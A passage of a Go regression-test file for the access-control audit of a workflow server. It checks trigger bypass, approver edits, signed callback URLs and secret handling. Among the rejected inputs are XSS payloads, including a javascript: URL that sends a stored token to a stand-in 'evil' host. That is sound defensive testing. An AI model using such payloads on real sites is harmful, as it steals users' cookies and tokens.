package server_test

import (
	"encoding/base64"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/gin-gonic/gin"
	"github.com/tidwall/gjson"

	"github.com/halley-bpm/halley/internal/testkit"
	"github.com/halley-bpm/halley/model"
	"github.com/halley-bpm/halley/server"
	"github.com/halley-bpm/halley/service/store"
	"github.com/halley-bpm/halley/service/store/storetest"
	"github.com/halley-bpm/halley/service/subscription"
	"github.com/halley-bpm/halley/templates"
)

// Regression tests of the access-control audit (issue 18): each finding, tried as an attacker would over HTTP.

// apiToken creates an API token and returns it.
func (e *env) apiToken(name string, roles ...string) string {
	e.t.Helper()
	r := e.do("POST", "/api/v1/tokens", e.admin, M{"name": name, "roles": roles}, nil)
	if r.Status != 201 {
		e.t.Fatalf("create token %s: %d %s", name, r.Status, r.Body)
	}
	return r.JSON["token"].(string)
}

// historyItems returns an instance's history as the API shows it.
func (e *env) historyItems(id string) []gjson.Result {
	e.t.Helper()
	r := e.do("GET", "/api/v1/instances/"+id+"/history", e.admin, nil, nil)
	if r.Status != 200 {
		e.t.Fatalf("history of %s: %d %s", id, r.Status, r.Body)
	}
	return gjson.GetBytes(r.Body, "items").Array()
}

// Finding 1: POST /instances starts only templates whose trigger is manual; an admin may override (recorded).
func TestStartTriggerCannotBeBypassed(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		bob, carol := e.mkUser("bob"), e.mkUser("carol")
		end := M{"id": "end", "type": "end"}
		form := M{"kind": "components", "fields": []any{M{"id": "f1", "type": "number", "label": "Days", "field": "days"}}}
		e.publish("members-form", []any{start(M{"kind": "form", "form": form, "members": []string{"bob"}, "require_login": true}), end}, []any{edge("start", "end")})
		e.publish("erp-hook", []any{start(M{"kind": "sync-api", "module": "erp", "function": "pay", "login_verification": "token", "header_token": "t0ken",
			"allow_remote_ips": "10.9.9.9"}), end}, []any{edge("start", "end")})
		e.publish("nightly", []any{start(M{"kind": "crontab", "expr": "0 3 * * *"}), end}, []any{edge("start", "end")})
		e.publish("by-hand", []any{start(M{"kind": "manual"}), end}, []any{edge("start", "end")})
		before := e.rowCount("instances", "1 = 1")

		// carol is not a member of the form, has no trigger token, is not in the IP allow-list: none of it may be
		// skipped through POST /instances.
		for _, key := range []string{"members-form", "erp-hook", "nightly"} {
			r := e.do("POST", "/api/v1/instances", carol, M{"template": key, "context": M{"days": 1}}, nil)
			assertError(t, r, 403, "trigger_required")
			if gjson.GetBytes(r.Body, "error.details.trigger").String() == "" {
				t.Fatalf("%s: trigger_required does not name the trigger: %s", key, r.Body)
			}
			assertError(t, e.do("POST", "/api/v1/instances", bob, M{"template": key, "override_trigger": true}, nil), 403, "admin_required")
		}
		assertError(t, e.do("POST", "/api/v1/instances", carol, M{"template": "by-hand", "override_trigger": true}, nil), 403, "admin_required")
		if n := e.rowCount("instances", "1 = 1"); n != before {
			t.Fatalf("refused starts left %d instances", n-before)
		}
		if r := e.do("POST", "/api/v1/instances", carol, M{"template": "by-hand"}, nil); r.Status != 201 {
			t.Fatalf("manual start: %d %s", r.Status, r.Body)
		}
		// The form starts through its own route, which checks its members.
		assertError(t, e.do("POST", "/api/v1/forms/members-form/submit", carol, M{"days": 1}, nil), 403, "not_a_member")
		if r := e.do("POST", "/api/v1/forms/members-form/submit", bob, M{"days": 1}, nil); r.Status != 201 {
			t.Fatalf("member submit: %d %s", r.Status, r.Body)
		}

		// An admin may override; the history says which trigger was bypassed, and by whom.
		r := e.do("POST", "/api/v1/instances", e.admin, M{"template": "members-form", "override_trigger": true, "context": M{"days": 2}}, nil)
		if r.Status != 201 {
			t.Fatalf("admin override: %d %s", r.Status, r.Body)
		}
		h := e.historyItems(r.JSON["id"].(string))
		if h[0].Get("action").String() != "instance.started" || h[0].Get("data.override_trigger").String() != "form" || h[0].Get("actor").String() != "admin" {
			t.Fatalf("override not recorded: %s", h[0].Raw)
		}
		overridden := r.JSON["id"].(string)
		// A manual start records no override.
		r = e.do("POST", "/api/v1/instances", e.admin, M{"template": "by-hand", "override_trigger": true}, nil)
		if r.Status != 201 || e.historyItems(r.JSON["id"].(string))[0].Get("data.override_trigger").Exists() {
			t.Fatalf("manual start with override_trigger: %d %s", r.Status, r.Body)
		}
		if r := e.do("POST", "/api/v1/instances", e.admin, M{"template": "by-hand"}, nil); r.Status != 201 {
			t.Fatalf("admin's manual start: %d %s", r.Status, r.Body)
		}
		// The audit log has the override, and only it: not the refused overrides, not the starts that bypassed
		// nothing (carol's, bob's form, the admin's by hand with or without override_trigger).
		entries, ar := e.audit("action=instance.*")
		if ar.Status != 200 || len(entries) != 1 {
			t.Fatalf("audit entries of instance starts: %d %s", ar.Status, ar.Body)
		}
		if a := entries[0]; a.Action != "instance.start_override" || a.Target != overridden || a.Actor != "admin" ||
			string(a.Before) != "null" || !strings.Contains(string(a.After), `"status":"completed"`) {
			t.Fatalf("the override's audit entry: %+v after %s", a, a.After)
		}
	})
}

// API tokens may start on behalf of a user, who is then the initiator everywhere; users may not.
func TestStartOnBehalfOfAUser(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		ann, bob := e.mkUser("ann"), e.mkUser("bob")
		e.mkUser("dora")
		erp := e.apiToken("erp")
		e.publish("leave", []any{start(M{"kind": "manual"}), M{"id": "lead", "type": "approval", "approvers": M{"users": []string{"bob"}}}, M{"id": "end", "type": "end"}},
			[]any{edge("start", "lead"), edge("lead", "end")})

		assertError(t, e.do("POST", "/api/v1/instances", bob, M{"template": "leave", "initiator": "ann"}, nil), 403, "not_allowed")
		assertError(t, e.do("POST", "/api/v1/instances", e.admin, M{"template": "leave", "initiator": "ann"}, nil), 403, "not_allowed")
		assertError(t, e.do("POST", "/api/v1/instances", erp, M{"template": "leave", "initiator": "nobody"}, nil), 422, "unknown_user")
		assertError(t, e.do("POST", "/api/v1/instances", erp, M{"template": "leave", "initiator": "system:cron"}, nil), 422, "unknown_user")
		if err := s.DB().Exec("UPDATE users SET disabled = ? WHERE username = ?", true, "dora").Error; err != nil {
			t.Fatal(err)
		}
		assertError(t, e.do("POST", "/api/v1/instances", erp, M{"template": "leave", "initiator": "dora"}, nil), 422, "user_disabled")

		r := e.do("POST", "/api/v1/instances", erp, M{"template": "leave", "initiator": "ann", "context": M{"days": 2}}, nil)
		if r.Status != 201 || r.JSON["initiator"] != "ann" {
			t.Fatalf("start on behalf of ann: %d %s", r.Status, r.Body)
		}
		id := r.JSON["id"].(string)
		h := e.historyItems(id)[0]
		if h.Get("actor").String() != "token:erp" || h.Get("data.on_behalf_of").String() != "ann" {
			t.Fatalf("on-behalf start not recorded: %s", h.Raw)
		}
		// ann is the initiator everywhere: her list, her instance, her withdraw.
		if r := e.do("GET", "/api/v1/instances?initiator=ann", ann, nil, nil); gjson.GetBytes(r.Body, "items.#").Int() != 1 {
			t.Fatalf("ann's list: %s", r.Body)
		}
		if r := e.do("POST", "/api/v1/instances/"+id+"/withdraw", ann, M{"reason": "changed my mind"}, nil); r.Status != 200 || r.JSON["status"] != "withdrawn" {
			t.Fatalf("ann withdraws: %d %s", r.Status, r.Body)
		}
	})
}

// Finding 2: an approver changes only the editable fields of their form; without a form, their data is theirs.
func TestApproverCannotRewriteTheRequest(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		ann, bob := e.mkUser("ann"), e.mkUser("bob")
		e.mkUser("fin")
		form := M{"kind": "components", "fields": []any{
			M{"id": "f1", "type": "money", "label": "Amount", "field": "amount", "readonly": true},
			M{"id": "f2", "type": "input", "label": "Cost centre", "field": "booking.cost_centre"},
			M{"id": "f3", "type": "attachment", "label": "Quote", "field": "booking.quote"},
			M{"id": "f4", "type": "description", "text": "Check the amount."},
		}}
		e.publish("expense", []any{start(M{"kind": "manual"}),
			M{"id": "lead", "type": "approval", "approvers": M{"users": []string{"bob"}}, "form": form},
			M{"id": "cfo", "type": "approval", "approvers": M{"context": "finance_approver"}},
			M{"id": "end", "type": "end", "join": "or"}},
			[]any{edge("start", "lead"), M{"from": "lead", "to": "cfo", "condition": M{"amount": M{"$gte": 1000}}}, M{"from": "lead", "to": "end", "default": true},
				edge("cfo", "end")})
		id := e.do("POST", "/api/v1/instances", ann, M{"template": "expense", "context": M{"amount": 5000, "finance_approver": "fin"}}, nil).JSON["id"].(string)
		task := gjson.GetBytes(e.instance(id).Body, `tasks.#(node_id=="lead").id`).String()
		ctxBefore := gjson.GetBytes(e.instance(id).Body, "context").Raw
		histBefore := len(e.historyItems(id))

		for _, tc := range []struct {
			data  M
			field string
		}{
			{M{"amount": 10}, "amount"},                                            // read-only in the form
			{M{"finance_approver": "bob"}, "finance_approver"},                     // not in the form: appointing himself
			{M{"booking": M{"cost_centre": "X", "owner": "bob"}}, "booking.owner"}, // beside an editable field
			{M{"booking": "flat"}, "booking"},
		} {
			r := e.do("POST", "/api/v1/tasks/"+task+"/approve", bob, M{"data": tc.data}, nil)
			assertError(t, r, 422, "field_not_editable")
			if got := gjson.GetBytes(r.Body, "error.details.field").String(); got != tc.field {
				t.Fatalf("%v: refused field %q, want %q", tc.data, got, tc.field)
			}
		}
		for _, bad := range []any{"javascript:alert(document.cookie)", []any{M{"name": "x.pdf", "data_url": "javascript:alert(1)"}},
			[]any{M{"name": "x.html", "data_url": "data:text/html,<script>alert(1)</script>"}}, []any{M{"name": "x", "url": "https://evil.example"}}} {
			assertError(t, e.do("POST", "/api/v1/tasks/"+task+"/approve", bob, M{"data": M{"booking": M{"quote": bad}}}, nil), 422, "invalid_file")
		}
		if got := gjson.GetBytes(e.instance(id).Body, "context").Raw; got != ctxBefore || len(e.historyItems(id)) != histBefore {
			t.Fatalf("refused data changed the instance: %s → %s", ctxBefore, got)
		}
		if gjson.GetBytes(e.instance(id).Body, `tasks.#(node_id=="lead").status`).String() != "pending" {
			t.Fatal("a refused approve decided the task")
		}

		// The editable fields are written, each change recorded before/after.
		quote := []any{M{"name": "quote.pdf", "size": 3, "type": "application/pdf", "data_url": "data:application/pdf;base64," + base64.StdEncoding.EncodeToString([]byte("pdf"))}}
		r := e.do("POST", "/api/v1/tasks/"+task+"/approve", bob, M{"comment": "ok", "data": M{"booking": M{"cost_centre": "CC-7", "quote": quote}}}, nil)
		if r.Status != 200 {
			t.Fatalf("approve with editable data: %d %s", r.Status, r.Body)
		}
		in := e.instance(id)
		c := gjson.GetBytes(in.Body, "context")
		if c.Get("amount").Int() != 5000 || c.Get("finance_approver").String() != "fin" || c.Get("booking.cost_centre").String() != "CC-7" || c.Get("booking.quote.0.name").String() != "quote.pdf" {
			t.Fatalf("context after approve: %s", c.Raw)
		}
		if gjson.GetBytes(in.Body, `tasks.#(node_id=="cfo").assignee`).String() != "fin" {
			t.Fatalf("the finance approval is not fin's: %s", in.Body)
		}
		var changed gjson.Result
		for _, h := range e.historyItems(id) {
			if h.Get("action").String() == "context.changed" {
				changed = h
			}
		}
		if changed.Get("actor").String() != "bob" || changed.Get("task_id").String() != task || changed.Get("data.changes.#").Int() != 2 ||
			changed.Get(`data.changes.#(path=="booking.cost_centre").after`).String() != "CC-7" ||
			changed.Get(`data.changes.#(path=="booking.cost_centre").before`).Type != gjson.Null {
			t.Fatalf("context.changed: %s", changed.Raw)
		}
	})
}

// Without a node form the data lands under context.<node_id>; a resubmit edits the start form's fields only.
func TestApproverDataWithoutFormAndResubmit(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		ann, bob := e.mkUser("ann"), e.mkUser("bob")
		e.publish("plain", []any{start(M{"kind": "manual"}), M{"id": "lead", "type": "approval", "approvers": M{"users": []string{"bob"}}}, M{"id": "end", "type": "end"}},
			[]any{edge("start", "lead"), edge("lead", "end")})
		id := e.do("POST", "/api/v1/instances", ann, M{"template": "plain", "context": M{"amount": 5}}, nil).JSON["id"].(string)
		task := gjson.GetBytes(e.instance(id).Body, "tasks.0.id").String()
		if r := e.do("POST", "/api/v1/tasks/"+task+"/approve", bob, M{"data": M{"amount": 1, "note": "fine"}}, nil); r.Status != 200 {
			t.Fatalf("approve: %d %s", r.Status, r.Body)
		}
		c := gjson.GetBytes(e.instance(id).Body, "context")
		if c.Get("amount").Int() != 5 || c.Get("lead.amount").Int() != 1 || c.Get("lead.note").String() != "fine" {
			t.Fatalf("context: %s", c.Raw)
		}

		// Resubmit after a return to start: the start form's editable fields, nothing else.
		sform := M{"kind": "components", "fields": []any{M{"id": "f1", "type": "number", "label": "Days", "field": "days"},
			M{"id": "f2", "type": "input", "label": "Employee", "field": "employee", "readonly": true}}}
		e.publish("leave", []any{start(M{"kind": "form", "form": sform}), M{"id": "lead", "type": "approval", "approvers": M{"users": []string{"bob"}}},
			M{"id": "end", "type": "end"}}, []any{edge("start", "lead"), edge("lead", "end")})
		id = e.do("POST", "/api/v1/forms/leave/submit", ann, M{"days": 3, "employee": "ann"}, nil).JSON["id"].(string)
		lead := gjson.GetBytes(e.instance(id).Body, "tasks.0.id").String()
		if r := e.do("POST", "/api/v1/tasks/"+lead+"/return", bob, M{"to": "start", "comment": "too many days"}, nil); r.Status != 200 {
			t.Fatalf("return: %d %s", r.Status, r.Body)
		}
		resub := gjson.GetBytes(e.instance(id).Body, `tasks.#(kind=="resubmit").id`).String()
		assertError(t, e.do("POST", "/api/v1/tasks/"+resub+"/approve", ann, M{"data": M{"employee": "carol"}}, nil), 422, "field_not_editable")
		assertError(t, e.do("POST", "/api/v1/tasks/"+resub+"/approve", ann, M{"data": M{"approver": "ann"}}, nil), 422, "field_not_editable")
		if r := e.do("POST", "/api/v1/tasks/"+resub+"/approve", ann, M{"data": M{"days": 2}}, nil); r.Status != 200 {
			t.Fatalf("resubmit: %d %s", r.Status, r.Body)
		}
		if c := gjson.GetBytes(e.instance(id).Body, "context"); c.Get("days").Int() != 2 || c.Get("employee").String() != "ann" {
			t.Fatalf("context after resubmit: %s", c.Raw)
		}
	})
}

// Finding 3: signed URLs only to admins and API tokens; system waits resumed only by them (or the signed URL).
func TestSystemWaitsAreForSystems(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		ann := e.mkUser("ann")
		erp := e.apiToken("erp")
		nodes := func(trigger M) []any {
			return []any{start(trigger), M{"id": "pay", "type": "callback", "message": "paid"}, M{"id": "end", "type": "end"}}
		}
		edges := []any{edge("start", "pay"), edge("pay", "end")}
		e.publish("order", nodes(M{"kind": "manual"}), edges)
		e.publish("order-form", nodes(M{"kind": "form", "form": M{"kind": "components", "fields": []any{}}}), edges)

		// Neither the initiator nor an anonymous form submitter sees the signed URL.
		r := e.do("POST", "/api/v1/instances", ann, M{"template": "order", "correlation_id": "o-1"}, nil)
		if r.Status != 201 || strings.Contains(string(r.Body), "token=") {
			t.Fatalf("the initiator's start answer: %d %s", r.Status, r.Body)
		}
		id := r.JSON["id"].(string)
		if r := e.do("POST", "/api/v1/forms/order-form/submit", "", M{}, nil); r.Status != 201 || strings.Contains(string(r.Body), "token=") {
			t.Fatalf("the anonymous submit answer: %d %s", r.Status, r.Body)
		}
		for _, who := range []string{ann} {
			for _, path := range []string{"/api/v1/instances/" + id, "/api/v1/instances/" + id + "/bookmarks"} {
				if r := e.do("GET", path, who, nil, nil); r.Status != 200 || strings.Contains(string(r.Body), "token=") {
					t.Fatalf("GET %s shows the signed URL to the initiator: %s", path, r.Body)
				}
			}
		}
		// Admins and API tokens see it: in what they read, and in the answer to a start (here on behalf of ann,
		// who then does not see it either).
		cb := gjson.GetBytes(e.do("GET", "/api/v1/instances/"+id, e.admin, nil, nil).Body, `nodes.#(node_id=="pay").callback_url`).String()
		if !strings.Contains(cb, "token=") {
			t.Fatalf("no callback URL for an admin: %q", cb)
		}
		bm := gjson.GetBytes(e.do("GET", "/api/v1/instances/"+id+"/bookmarks", e.admin, nil, nil).Body, "items.0")
		if !strings.Contains(bm.Get("payload.callback_url").String(), "token=") {
			t.Fatalf("the admin's bookmark lacks the callback URL: %s", bm.Raw)
		}
		r = e.do("POST", "/api/v1/instances", erp, M{"template": "order", "initiator": "ann", "correlation_id": "o-3"}, nil)
		if r.Status != 201 || !strings.Contains(gjson.GetBytes(r.Body, `nodes.#(node_id=="pay").callback_url`).String(), "token=") {
			t.Fatalf("the API token's start answer lacks the callback URL: %d %s", r.Status, r.Body)
		}
		if r := e.do("GET", "/api/v1/instances/"+r.JSON["id"].(string), ann, nil, nil); r.Status != 200 || strings.Contains(string(r.Body), "token=") {
			t.Fatalf("ann sees the callback URL of the instance started for her: %s", r.Body)
		}

		// The initiator cannot forge what the system reports.
		assertError(t, e.do("POST", "/api/v1/bookmarks/"+bm.Get("id").String()+"/resume", ann, M{"data": M{"paid": 1e9}}, nil), 403, "not_allowed")
		nid := bm.Get("node_instance_id").String()
		assertError(t, e.do("POST", "/api/v1/callback/"+id+"/"+nid, ann, M{"paid": 1e9}, nil), 403, "not_allowed")
		assertError(t, e.do("POST", "/api/v1/messages", ann, M{"name": "paid", "correlation_id": "o-1"}, nil), 403, "not_allowed")
		if r := e.instance(id); nodeState(r, "pay") != "waiting" {
			t.Fatalf("a user resumed the wait: %s", r.Body)
		}
		// The signed URL works without a login; an API token works without the URL's token.
		_, rest, ok := strings.Cut(cb, "/api/v1/")
		if !ok {
			t.Fatalf("callback URL without /api/v1/: %s", cb)
		}
		path := "/api/v1/" + rest
		if r := e.do("POST", path, "", M{"paid": 10}, nil); r.Status != 200 {
			t.Fatalf("signed callback: %d %s", r.Status, r.Body)
		}
		id2 := e.do("POST", "/api/v1/instances", ann, M{"template": "order", "correlation_id": "o-2"}, nil).JSON["id"].(string)
		if r := e.do("POST", "/api/v1/messages", erp, M{"name": "paid", "correlation_id": "o-2", "data": M{"paid": 7}}, nil); r.Status != 202 || r.JSON["resumed"] != float64(1) {
			t.Fatalf("message from the API token: %d %s", r.Status, r.Body)
		}
		if r := e.instance(id2); r.JSON["status"] != "completed" {
			t.Fatalf("instance after the message: %s", r.Body)
		}
	})
}

// Finding 4: a correlation id is unique among the running instances of a template.
func TestCorrelationIDsCannotBeSquatted(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		ann, mallory := e.mkUser("ann"), e.mkUser("mallory")
		erp := e.apiToken("erp")
		nodes := []any{start(M{"kind": "manual"}), M{"id": "pay", "type": "callback", "message": "paid"}, M{"id": "end", "type": "end"}}
		e.publish("order", nodes, []any{edge("start", "pay"), edge("pay", "end")})
		e.publish("refund", nodes, []any{edge("start", "pay"), edge("pay", "end")})

		id := e.do("POST", "/api/v1/instances", ann, M{"template": "order", "correlation_id": "order-42"}, nil).JSON["id"].(string)
		r := e.do("POST", "/api/v1/instances", mallory, M{"template": "order", "correlation_id": "order-42"}, nil)
		assertError(t, r, 409, "correlation_taken")
		if n := e.rowCount("instances", "1 = 1"); n != 1 {
			t.Fatalf("%d instances after the refused start", n)
		}
		// A message reaches ann's instance, and only it.
		if r := e.do("POST", "/api/v1/messages", erp, M{"name": "paid", "correlation_id": "order-42"}, nil); r.JSON["resumed"] != float64(1) {
			t.Fatalf("message: %s", r.Body)
		}
		if r := e.instance(id); r.JSON["status"] != "completed" {
			t.Fatalf("ann's order: %s", r.Body)
		}
		// Ended, the id is free again; another template has ids of its own.
		if r := e.do("POST", "/api/v1/instances", mallory, M{"template": "order", "correlation_id": "order-42"}, nil); r.Status != 201 {
			t.Fatalf("start after the first ended: %d %s", r.Status, r.Body)
		}
		if r := e.do("POST", "/api/v1/instances", ann, M{"template": "refund", "correlation_id": "order-42"}, nil); r.Status != 201 {
			t.Fatalf("another template, same id: %d %s", r.Status, r.Body)
		}
		// Terminating frees it too.
		id3 := e.do("POST", "/api/v1/instances", ann, M{"template": "order", "correlation_id": "order-43"}, nil).JSON["id"].(string)
		e.do("POST", "/api/v1/instances/"+id3+"/terminate", ann, M{"reason": "x"}, nil)
		if r := e.do("POST", "/api/v1/instances", ann, M{"template": "order", "correlation_id": "order-43"}, nil); r.Status != 201 {
			t.Fatalf("start after terminate: %d %s", r.Status, r.Body)
		}
	})
}

// Finding 4, raced: 50 starts with one correlation id at once give one 201 and 49 409s, on SQLite and MySQL.
func TestCorrelationIDRace(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		e.publish("order", []any{start(M{"kind": "manual"}), M{"id": "pay", "type": "callback", "message": "paid"}, M{"id": "end", "type": "end"}},
			[]any{edge("start", "pay"), edge("pay", "end")})
		const n = 50
		var wg sync.WaitGroup
		statuses := make([]int, n)
		codes := make([]string, n)
		start := make(chan struct{})
		for i := 0; i < n; i++ {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				<-start
				r := e.do("POST", "/api/v1/instances", e.admin, M{"template": "order", "correlation_id": "race-1", "context": M{"i": i}}, nil)
				statuses[i], codes[i] = r.Status, r.code()
			}(i)
		}
		close(start)
		wg.Wait()
		created := 0
		for i, st := range statuses {
			switch {
			case st == 201:
				created++
			case st != 409 || codes[i] != "correlation_taken":
				t.Fatalf("start %d: %d %s", i, st, codes[i])
			}
		}
		if created != 1 || e.rowCount("instances", "1 = 1") != 1 || e.rowCount("running_correlations", "1 = 1") != 1 {
			t.Fatalf("%d created, %d instances, %d claims; want one of each", created, e.rowCount("instances", "1 = 1"), e.rowCount("running_correlations", "1 = 1"))
		}
	})
}

// Finding 5 (server side): file values are validated, and every answer carries the security headers.
func TestFileValuesAndSecurityHeaders(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, func(d *server.Deps) { d.FormFrameAncestors = []string{"https://portal.example.com"} })
		bob := e.mkUser("bob")
		form := M{"kind": "components", "fields": []any{M{"id": "f1", "type": "attachment", "label": "Files", "field": "files"}}}
		e.publish("upload", []any{start(M{"kind": "form", "form": form}), M{"id": "end", "type": "end"}}, []any{edge("start", "end")})
		for _, bad := range []any{
			[]any{M{"name": "x", "data_url": "javascript:fetch('//evil/'+localStorage.token)"}},
			[]any{M{"name": "x", "data_url": "JavaScript:alert(1)"}},
			[]any{M{"name": "x", "data_url": "data:text/html,<script>alert(1)</script>"}},
			[]any{M{"name": "x", "data_url": "data:text/plain;base64,!!!"}},
			[]any{M{"name": "x", "href": "https://evil.example"}},
			[]any{"javascript:alert(1)"},
			"javascript:alert(1)",
			[]any{M{"name": "x\u0000", "data_url": "data:text/plain;base64,eA=="}},
		} {
			// As a user: anonymous submissions are rate-limited (burst 5) before their values are looked at.
			assertError(t, e.do("POST", "/api/v1/forms/upload/submit", bob, M{"files": bad}, nil), 422, "invalid_file")
		}
		if n := e.rowCount("instances", "1 = 1"); n != 0 {
			t.Fatalf("%d instances from refused submissions", n)
		}
		ok := []any{M{"name": "a.txt", "size": 1, "type": "text/plain", "data_url": "data:text/plain;base64,eA=="}, "01a2b3c4-att"}
		assertError(t, e.do("POST", "/api/v1/forms/upload/submit", "", M{"files": []any{M{"name": "x", "data_url": "javascript:alert(1)"}}}, nil), 422, "invalid_file")
		if r := e.do("POST", "/api/v1/forms/upload/submit", "", M{"files": ok}, nil); r.Status != 201 {
			t.Fatalf("valid files: %d %s", r.Status, r.Body)
		}

		check := func(path, csp string, frame string) {
			t.Helper()
			r := e.do("GET", path, "", nil, nil)
			h := r.Header
			if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Referrer-Policy") != "no-referrer" || !strings.Contains(h.Get("Content-Security-Policy"), csp) ||
				h.Get("X-Frame-Options") != frame {
				t.Fatalf("GET %s: headers %v", path, h)
			}
		}
		check("/api/v1/me", "default-src 'none'; frame-ancestors 'none'", "DENY")
		check("/healthz", "default-src 'none'", "DENY")
		check("/inbox", "script-src 'self'; ", "DENY")
		check("/inbox", "frame-ancestors 'none'", "DENY")
		check("/start/upload", "frame-ancestors https://portal.example.com", "")
		check("/api/v1/ui/form-frame", "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'", "SAMEORIGIN")
		if csp := e.do("GET", "/inbox", "", nil, nil).Header.Get("Content-Security-Policy"); strings.Contains(csp, "'unsafe-inline'; img") && strings.Contains(csp, "script-src 'self' 'unsafe") {
			t.Fatalf("the app allows inline scripts: %s", csp)
		}
		if r := e.do("GET", "/api/v1/ui/form-frame", "", nil, nil); r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
			t.Fatalf("form frame: %d %s", r.Status, r.Header)
		}
	})
}

// Finding 6: synthetic initiators are no usernames, and their names are reserved.
func TestSyntheticInitiatorsAreNotUsers(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		for _, name := range []string{"anonymous", "cron", "system", "Anonymous", "CRON"} {
			assertError(t, e.do("POST", "/api/v1/users", e.admin, M{"username": name, "password": "long-enough-pw"}, nil), 422, "reserved_username")
		}
		e.publish("open", []any{start(M{"kind": "form", "form": M{"kind": "components", "fields": []any{}}}), M{"id": "lead", "type": "approval", "approvers": M{"users": []string{"admin"}}}, M{"id": "end", "type": "end"}},
			[]any{edge("start", "lead"), edge("lead", "end")})
		r := e.do("POST", "/api/v1/forms/open/submit", "", M{"secret": "salary"}, nil)
		if r.Status != 201 || r.JSON["initiator"] != model.InitiatorAnonymous {
			t.Fatalf("anonymous submit: %d %s", r.Status, r.Body)
		}
		// A user named like the old synthetic initiator (created before the names were reserved) owns nothing.
		// (Migration account_ids gave such rows an account id.)
		if err := s.DB().Exec("INSERT INTO users (tenant_id, username, password_hash, display_name, roles, department, manager, account_id, created_at, updated_at) " +
			"SELECT tenant_id, 'anonymous', password_hash, 'old', '[]', '', '', 'legacy-anonymous', created_at, updated_at FROM users WHERE username = 'admin'").Error; err != nil {
			t.Fatal(err)
		}
		tok := e.do("POST", "/api/v1/auth/login", "", M{"username": "anonymous", "password": "admin-pw-1"}, nil).JSON["token"].(string)
		assertError(t, e.do("GET", "/api/v1/instances/"+r.JSON["id"].(string), tok, nil, nil), 403, "not_allowed")
		if r := e.do("GET", "/api/v1/instances", tok, nil, nil); gjson.GetBytes(r.Body, "items.#").Int() != 0 {
			t.Fatalf("the user named anonymous lists: %s", r.Body)
		}
	})
}

// Finding 7: trigger secrets are keyed hashes, shown to nobody; "***" keeps the stored one.
func TestTriggerSecretsAreWriteOnly(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		bob := e.mkUser("bob")
		trig := func(secret string) M {
			return M{"kind": "sync-api", "module": "hr", "function": "x", "login_verification": "password", "header_user": "svc", "header_password": secret}
		}
		def := func(secret string) M {
			return M{"nodes": []any{start(trig(secret)), M{"id": "end", "type": "end"}}, "edges": []any{edge("start", "end")}}
		}
		e.publish("hook", def("pa55word-1")["nodes"].([]any), def("")["edges"].([]any))
		for _, who := range []string{e.admin, bob} {
			for _, path := range []string{"/api/v1/templates/hook", "/api/v1/templates/hook/versions/1"} {
				r := e.do("GET", path, who, nil, nil)
				if r.Status != 200 || strings.Contains(string(r.Body), "pa55word") || strings.Contains(string(r.Body), "sha256") || !strings.Contains(string(r.Body), `"header_password":"***"`) {
					t.Fatalf("GET %s: %d %s", path, r.Status, r.Body)
				}
			}
		}
		call := func(pw string) int {
			return e.do("POST", "/api/v1/trigger/sync/hr/x", "", M{}, map[string]string{"X-Halley-User": "svc", "X-Halley-Password": pw}).Status
		}
		if call("pa55word-1") != 200 || call("wrong") != 401 {
			t.Fatal("the stored secret does not work")
		}
		// Saving what GET showed keeps the secret.
		if r := e.do("PUT", "/api/v1/templates/hook/draft", e.admin, M{"definition": def("***")}, nil); r.Status != 200 {
			t.Fatalf("save with ***: %d %s", r.Status, r.Body)
		}
		e.do("POST", "/api/v1/templates/hook/publish", e.admin, nil, nil)
		if call("pa55word-1") != 200 || call("***") != 401 {
			t.Fatal("*** did not keep the secret")
		}
		assertError(t, e.do("POST", "/api/v1/templates", e.admin, M{"key": "fresh", "definition": def("***")}, nil), 400, "secret_unknown")
		// A database copy holds no unkeyed hash a guess can be checked against offline.
		var stored []string
		s.DB().Raw("SELECT definition FROM template_versions WHERE tkey = 'hook'").Scan(&stored)
		for _, d := range stored {
			if v := gjson.Get(d, "nodes.0.trigger.header_password").String(); !strings.HasPrefix(v, "hmac-sha256:") {
				t.Fatalf("stored secret %q", v)
			}
		}
	})
}

// Finding 8: hidden linear templates, deep contexts, async decisions.
func TestLowFindings(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		e := newEnv(t, s, nil)
		ann, bob, carol := e.mkUser("ann"), e.mkUser("bob"), e.mkUser("carol")
		r := e.do("POST", "/api/v1/instances/linear", ann, M{"title": "Secret merger", "steps": []any{M{"name": "CEO", "approvers": M{"users": []string{"bob"}}}}}, nil)
		if r.Status != 201 {
			t.Fatalf("linear: %d %s", r.Status, r.Body)
		}
		key := r.JSON["template"].(string)
		for _, who := range []string{ann, bob, e.admin} {
			if r := e.do("GET", "/api/v1/templates/"+key+"/versions/1", who, nil, nil); r.Status != 200 {
				t.Fatalf("a reader of the linear instance cannot read its version: %d %s", r.Status, r.Body)
			}
		}
		assertError(t, e.do("GET", "/api/v1/templates/"+key+"/versions/1", carol, nil, nil), 404, "template_not_found")
		assertError(t, e.do("GET", "/api/v1/templates/"+key+"/versions/1/diagram", carol, nil, nil), 404, "template_not_found")
		assertError(t, e.do("POST", "/api/v1/instances", carol, M{"template": key}, nil), 404, "template_not_found")

		deep := func(n int) any {
			var v any = "x"
			for i := 0; i < n; i++ {
				v = []any{v}
			}
			return v
		}
		e.publish("plain", []any{start(M{"kind": "manual"}), M{"id": "end", "type": "end"}}, []any{edge("start", "end")})
